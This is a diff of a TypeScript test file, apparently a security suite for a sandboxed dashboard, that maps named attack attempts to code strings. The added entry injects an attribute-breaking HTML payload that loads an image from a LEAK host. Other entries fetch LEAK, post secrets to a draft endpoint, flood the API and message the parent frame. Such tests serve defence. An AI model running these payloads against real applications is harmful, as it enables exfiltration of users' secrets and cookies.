@@ -141,6 +141,7 @@ const attacks: Record<string, string> = {
   "protocol-relative URL through the broker": `const r = await fetch(LEAK.replace("http:", "")); out("protocol-relative " + r.status);`,
   "playground write URL": `await fetch("/dashboards/playground/draft", { method: "POST", body: JSON.stringify({ html: secret }) }).catch(() => {}); const r = await fetch("/dashboards/playground/draft"); out("write " + r.status);`,
   "a flood of reads": `const rs = await Promise.all(Array.from({ length: 60 }, () => fetch(API + "/me").then((r) => r.status))); out("flood " + rs.filter((s) => s === 429).length);`,
+  "snapshot notice with a hostile time": `const s = el("script", { type: "application/json", id: "dashboard-snapshot", "data-taken-at": '"><img src="' + LEAK + '">' }); s.textContent = JSON.stringify({ secret }); out("snapshot " + JSON.stringify(window.dashboardSnapshot()));`,
   "postMessage to the host": `parent.postMessage({ type: "fetch", id: 1, method: "GET", path: LEAK }, "*"); parent.postMessage({ type: "init", html: secret, apiBase: "${origin}" }, "*");`,
   // Reading the host's secrets
   "document.cookie, parent.document, referrer, baseURI": `
